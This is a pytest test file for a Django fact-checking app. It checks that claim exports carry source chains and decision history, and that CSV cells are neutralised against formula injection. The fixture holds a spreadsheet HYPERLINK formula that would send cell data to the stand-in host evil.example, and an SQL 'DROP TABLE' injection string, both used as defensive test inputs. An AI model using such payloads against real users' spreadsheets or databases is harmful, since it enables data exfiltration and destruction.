"""Exports that carry provenance (issue 13): the columns and values, formula neutralisation on both
databases, one set of bytes from PostgreSQL's COPY and the Python writer, JSON lines' lists.

Expected values are written out by hand from the fixture's story, not taken from the code.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from dataclasses import dataclass

import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.utils import timezone

from claims import exports
from claims.exports import pgcopy
from claims.models import Article, Claim, ClaimStatus
from claims.services import add_evidence, change_claim_status
from provenance.models import Attribution, AttributionOrigin, AttributionReview, Source, SourceType

pytestmark = pytest.mark.django_db
NEW_COLUMNS = ["sources", "source_types", "roles", "chain", "decision_note", "evidence_urls", "decided_by",
               "decided_at"]


@dataclass
class Story:
    relayed: Claim  # people familiar with the matter → The Wall Street Journal → this article, verified
    hedged: Claim  # "Reportedly": a bare hedge, nobody named
    mixed: Claim  # a rejected attribution, a duplicate mention, an editor's addition without offsets
    attack: Claim  # every free-text cell starts like a formula
    reopened: Claim  # verified, then sent back to review
    untouched: Claim  # no attribution, no history
    verified_at: dt.datetime


def _source(name: str, type_: str) -> Source:
    return Source.objects.create(canonical_name=name, type=type_)


def _claim(article: Article, ordinal: int, text: str, **kw) -> Claim:  # noqa: ANN003
    return Claim.objects.create(article=article, ordinal=ordinal, start=ordinal * 200, end=ordinal * 200 + len(text),
                                text=text, text_hash=f"t{article.pk}-{ordinal}", **kw)


def _attr(claim: Claim, source: Source | None, **kw) -> Attribution:  # noqa: ANN003
    values = {"source_text": source.canonical_name if source else "", "source_type": source.type if source else "",
              "cue_text": "said", "origin": AttributionOrigin.MACHINE, **kw}
    return Attribution.objects.create(claim=claim, source=source, **values)


@pytest.fixture
def story(fact_checker, editor, django_user_model) -> Story:
    courier = _source("Harbor Valley Courier", SourceType.NEWS_OUTLET)
    wsj = _source("The Wall Street Journal", SourceType.NEWS_OUTLET)
    familiar = _source("people familiar with the matter", SourceType.ANONYMOUS)
    mayor = _source("Mayor Ines Calder", SourceType.GOVERNMENT)
    gazette = _source("@Evil Gazette", SourceType.NEWS_OUTLET)
    plus = _source("+Plus Person", SourceType.PERSON)

    plant = Article.objects.create(title="Plant closing, \"sources\" say", url="https://courier.example.org/plant",
                                   publisher=courier, body="b" * 2000, body_sha256="a" * 64)
    relayed = _claim(plant, 0, "The plant will close in June, people familiar with the matter told "
                               "The Wall Street Journal.")
    # Innermost first, as the engine lists them: the anonymous source, then the outlet that relayed it.
    _attr(relayed, familiar, source_start=30, cue_text="told")
    _attr(relayed, wsj, role="relay", source_start=70, cue_text="told")
    change_claim_status(claim_id=relayed.pk, actor=fact_checker, to_status=ClaimStatus.IN_REVIEW, note="looking")
    verified = change_claim_status(claim_id=relayed.pk, actor=fact_checker, to_status=ClaimStatus.VERIFIED,
                                   note="Confirmed with the plant's filing.",
                                   evidence_url="https://evidence.example.org/filing")
    verified_at = verified.events.get(to_value=ClaimStatus.VERIFIED).created_at
    add_evidence(claim_id=relayed.pk, actor=fact_checker, evidence_url="https://evidence.example.org/memo")
    add_evidence(claim_id=relayed.pk, actor=fact_checker, evidence_url="https://evidence.example.org/filing")

    hedged = _claim(plant, 1, "Reportedly, the plant's owner is in talks to sell it.")
    _attr(hedged, None, cue_text="Reportedly", source_type=SourceType.UNSPECIFIED, cue_start=200)

    mixed = _claim(plant, 2, "The council approved the budget, the mayor said, according to the Courier.")
    _attr(mixed, mayor, source_start=433, cue_text="said")
    _attr(mixed, wsj, source_start=401, review=AttributionReview.REJECTED)  # an editor said no: not a source
    _attr(mixed, mayor, source_start=460, cue_text="added")  # the same source again: listed once
    _attr(mixed, None, source_text="two council aides", source_type=SourceType.ANONYMOUS, cue_text="",
          origin=AttributionOrigin.EDITOR, review=AttributionReview.CONFIRMED)  # no offsets: listed last
    _attr(mixed, courier, role="relay", source_start=420, cue_text="according to")

    evil = Article.objects.create(title="+SUM(1,2)", url=None, publisher=gazette, body="e" * 800,
                                  body_sha256="e" * 64)
    at_user = django_user_model.objects.create_user("@checker", password="pw-at-checker-123456")
    at_user.groups.add(Group.objects.get(name="Fact-checker"))
    dash_user = django_user_model.objects.create_user("-dash", password="pw-dash-checker-123456")
    dash_user.groups.add(Group.objects.get(name="Fact-checker"))
    attack = _claim(evil, 0, '=HYPERLINK("http://evil.example/?x="&A1,"Click")', assigned_to=dash_user)
    _attr(attack, plus, source_start=5)
    change_claim_status(claim_id=attack.pk, actor=at_user, to_status=ClaimStatus.IN_REVIEW)
    change_claim_status(claim_id=attack.pk, actor=at_user, to_status=ClaimStatus.FALSE,
                        note="-1+1 is how the scam starts", evidence_url="https://evidence.example.org/x")

    reopened = _claim(evil, 1, "\tTabbed claim with a lone\rcarriage return, a comma and a “quote”.")
    change_claim_status(claim_id=reopened.pk, actor=fact_checker, to_status=ClaimStatus.IN_REVIEW)
    change_claim_status(claim_id=reopened.pk, actor=fact_checker, to_status=ClaimStatus.VERIFIED, note="ok",
                        evidence_url="https://evidence.example.org/ok")
    change_claim_status(claim_id=reopened.pk, actor=editor, to_status=ClaimStatus.IN_REVIEW,
                        note="@desk: the second source retracted")

    untouched = _claim(evil, 2, "Zürich is 408 metres above sea level.")
    return Story(relayed, hedged, mixed, attack, reopened, untouched, verified_at)


def parsed(data: bytes) -> dict[int, dict[str, str]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    assert reader.fieldnames == exports.HEADER
    return {int(row["id"]): row for row in reader}


def export_csv(**filters: list[str]) -> bytes:
    return b"".join(exports.export_chunks("csv", exports.filtered_claims(filters)))


def iso_z(value: dt.datetime) -> str:
    return value.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def test_new_columns_come_last_in_the_order_reporting_tools_key_on():
    assert exports.HEADER[-len(NEW_COLUMNS):] == NEW_COLUMNS


def test_relay_chain_evidence_and_decision(story, fact_checker):
    row = parsed(export_csv())[story.relayed.pk]
    assert row["sources"] == "people familiar with the matter; The Wall Street Journal"
    assert row["source_types"] == "anonymous; news_outlet"
    assert row["roles"] == "source; relay"
    assert row["chain"] == ("unnamed sources (people familiar with the matter) → The Wall Street Journal"
                            " → this article (Harbor Valley Courier)")
    assert row["decision_note"] == "Confirmed with the plant's filing."
    # Every link in the history once, oldest first (the filing came with the decision, then the memo).
    assert row["evidence_urls"] == "https://evidence.example.org/filing https://evidence.example.org/memo"
    assert row["decided_by"] == fact_checker.username
    assert row["decided_at"] == iso_z(story.verified_at)
    assert row["status"] == "verified" and row["article_title"] == 'Plant closing, "sources" say'


def test_hedges_rejections_duplicates_and_editor_additions(story):
    rows = parsed(export_csv())
    hedged = rows[story.hedged.pk]
    assert (hedged["sources"], hedged["source_types"], hedged["roles"]) == ("", "", "")  # nobody named
    assert hedged["chain"] == "unnamed (Reportedly) → this article (Harbor Valley Courier)"
    assert (hedged["decision_note"], hedged["decided_by"], hedged["decided_at"], hedged["evidence_urls"]) == \
        ("", "", "", "")
    mixed = rows[story.mixed.pk]
    # Sentence order: the Courier (offset 420) before the mayor (433); the aides (no offset) last.
    assert mixed["sources"] == "Harbor Valley Courier; Mayor Ines Calder; two council aides"
    assert mixed["source_types"] == "news_outlet; government; anonymous"
    assert mixed["roles"] == "relay; source; source"
    assert mixed["chain"] == ("Mayor Ines Calder + unnamed sources (two council aides) → Harbor Valley Courier"
                              " → this article (Harbor Valley Courier)")
    assert "Wall Street" not in mixed["sources"] + mixed["chain"]


def test_the_event_that_set_the_current_status_decides(story, editor):
    row = parsed(export_csv())[story.reopened.pk]
    # Reopened: the reopening set the current status, so its note and author are the decision's.
    assert row["status"] == "in_review"
    assert row["decided_by"] == editor.username
    assert row["decision_note"] == "'@desk: the second source retracted"  # neutralised, see below


def test_formula_cells_are_neutralised(story):
    rows = parsed(export_csv())
    attack = rows[story.attack.pk]
    assert attack["text"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert attack["article_title"] == "'+SUM(1,2)"
    assert attack["publisher"] == "'@Evil Gazette"
    assert attack["sources"] == "'+Plus Person"
    assert attack["chain"] == "'+Plus Person → this article (@Evil Gazette)"
    assert attack["decision_note"] == "'-1+1 is how the scam starts"
    assert attack["decided_by"] == "'@checker"
    assert attack["assigned_to"] == "'-dash"
    reopened = rows[story.reopened.pk]
    assert reopened["text"] == "'\tTabbed claim with a lone\rcarriage return, a comma and a “quote”."
    untouched = rows[story.untouched.pk]
    assert untouched["text"] == "Zürich is 408 metres above sea level."  # ordinary text is left alone
    assert untouched["chain"] == "no stated source → this article (@Evil Gazette)"  # only a cell's start counts
    # Nothing left that a spreadsheet would compute.
    for row in rows.values():
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)


def test_a_lone_carriage_return_is_quoted_and_empty_cells_are_bare(story):
    data = export_csv()
    assert b'"\'\tTabbed claim with a lone\rcarriage return, a comma and a \xe2\x80\x9cquote\xe2\x80\x9d."' in data
    lines = data.split(b"\n")
    assert lines[0] == ",".join(exports.HEADER).encode()
    assert not any(line.endswith(b"\r") for line in lines)  # "\n" ends every row, on both databases
    untouched = next(line for line in lines if line.startswith(f"{story.untouched.pk},".encode()))
    assert b'""' not in untouched  # no quoted empty strings: an empty cell is empty on both databases


@pytest.mark.postgres
@pytest.mark.parametrize("filters", [{}, {"status": ["verified", "in_review"]}, {"q": ["plant"]}])
def test_postgres_copy_writes_the_same_bytes_as_the_python_writer(story, monkeypatch, filters):
    assert connection.vendor == "postgresql"
    claims = exports.filtered_claims(filters)
    python = b"".join(exports.python_csv_chunks(claims, chunk_size=2))
    copied = b"".join(exports.csv_chunks(claims))
    assert copied == python
    monkeypatch.setattr(pgcopy, "COPY_WINDOW_IDS", 2)  # several windows, some empty
    assert b"".join(exports.csv_chunks(claims)) == python
    assert len(parsed(python)) == claims.count() > 0


@pytest.mark.postgres
@pytest.mark.parametrize("term", ["plant's", "x'); DROP TABLE claims_claim; --", "100%", "%(id)s", "back\\slash",
                                  "$$", "E'\\x27'"])
def test_search_terms_reach_copy_as_data_not_sql(story, term):
    """COPY takes no parameters, so the filters' SQL is bound before it is sent: quotes stay data."""
    claims = exports.filtered_claims({"q": [term]})
    assert b"".join(exports.csv_chunks(claims)) == b"".join(exports.python_csv_chunks(claims))
    assert Claim.objects.count() == 6  # the table is still there
    assert len(parsed(b"".join(exports.csv_chunks(exports.filtered_claims({"q": ["plant's"]}))))) == 1


@pytest.mark.postgres
def test_postgres_neutralises_in_sql(story):
    """Not the Python writer: the cells come out of PostgreSQL's COPY already neutralised."""
    chunks = list(pgcopy.csv_chunks(exports.filtered_claims({"article": [str(story.attack.article_id)]}),
                                    header=b""))
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8"), newline="")))
    text_at, title_at = exports.HEADER.index("text"), exports.HEADER.index("article_title")
    by_id = {int(r[0]): r for r in rows}
    assert by_id[story.attack.pk][text_at].startswith("'=HYPERLINK(")
    assert by_id[story.attack.pk][title_at] == "'+SUM(1,2)"


def test_jsonl_carries_lists_the_chain_and_every_attribution(story, fact_checker):
    text = b"".join(exports.export_chunks("jsonl", exports.filtered_claims({}))).decode("utf-8")
    records = {r["id"]: r for r in map(json.loads, text.splitlines())}
    relayed = records[story.relayed.pk]
    assert relayed["sources"] == ["people familiar with the matter", "The Wall Street Journal"]
    assert relayed["source_types"] == ["anonymous", "news_outlet"]
    assert relayed["roles"] == ["source", "relay"]
    assert relayed["chain"] == [
        {"label": "unnamed sources (people familiar with the matter)", "kind": "source", "types": ["anonymous"]},
        {"label": "The Wall Street Journal", "kind": "relay", "types": ["news_outlet"]},
        {"label": "this article (Harbor Valley Courier)", "kind": "article", "types": []},
    ]
    assert relayed["evidence_urls"] == ["https://evidence.example.org/filing", "https://evidence.example.org/memo"]
    assert relayed["decision_note"] == "Confirmed with the plant's filing."
    assert relayed["decided_by"] == fact_checker.username
    assert dt.datetime.fromisoformat(relayed["decided_at"]) == story.verified_at
    assert relayed["attributions"] == [
        {"source": "people familiar with the matter", "canonical": "people familiar with the matter",
         "type": "anonymous", "role": "source", "cue": "told", "review": "pending", "origin": "machine"},
        {"source": "The Wall Street Journal", "canonical": "The Wall Street Journal", "type": "news_outlet",
         "role": "relay", "cue": "told", "review": "pending", "origin": "machine"},
    ]
    hedged = records[story.hedged.pk]
    assert hedged["attributions"] == [{"source": None, "canonical": None, "type": "unspecified", "role": "source",
                                       "cue": "Reportedly", "review": "pending", "origin": "machine"}]
    assert hedged["decided_by"] is None and hedged["decided_at"] is None and hedged["sources"] == []
    mixed = records[story.mixed.pk]
    assert [a["review"] for a in mixed["attributions"]].count("rejected") == 1  # listed, with its review
    # JSON is for programs: text is carried as it is, never prefixed.
    assert records[story.attack.pk]["text"].startswith("=HYPERLINK(")
    assert records[story.attack.pk]["decided_by"] == "@checker"


def test_python_writers_read_a_fixed_number_of_queries_per_batch(story, django_assert_num_queries):
    claims = exports.filtered_claims({})
    total = claims.count()
    batches = -(-total // 2)
    # One read of the claims (a server-side cursor), then per batch: its attributions and events,
    # and for JSON lines its matches, its match groups (one step: the story has no matches) and the
    # groups' articles. On PostgreSQL the cursor's transaction is a savepoint inside the test's (two
    # more statements). Never a query per row.
    with django_assert_num_queries(1 + 5 * batches + (2 if connection.vendor == "postgresql" else 0)):
        lines = b"".join(exports.jsonl_chunks(claims, chunk_size=2)).splitlines()
    assert len(lines) == total


def test_decided_at_uses_the_deciding_event_not_the_last_change(story, fact_checker):
    before = parsed(export_csv())[story.relayed.pk]
    add_evidence(claim_id=story.relayed.pk, actor=fact_checker, evidence_url="https://evidence.example.org/late")
    after = parsed(export_csv())[story.relayed.pk]
    assert after["decided_at"] == before["decided_at"] == iso_z(story.verified_at)
    assert after["updated_at"] != before["updated_at"]
    assert after["evidence_urls"].endswith(" https://evidence.example.org/late")


def test_a_status_set_without_an_event_has_no_decision(story):
    Claim.objects.filter(pk=story.untouched.pk).update(status=ClaimStatus.VERIFIED, updated_at=timezone.now())
    row = parsed(export_csv())[story.untouched.pk]
    assert row["status"] == "verified" and row["decided_by"] == "" and row["decided_at"] == ""
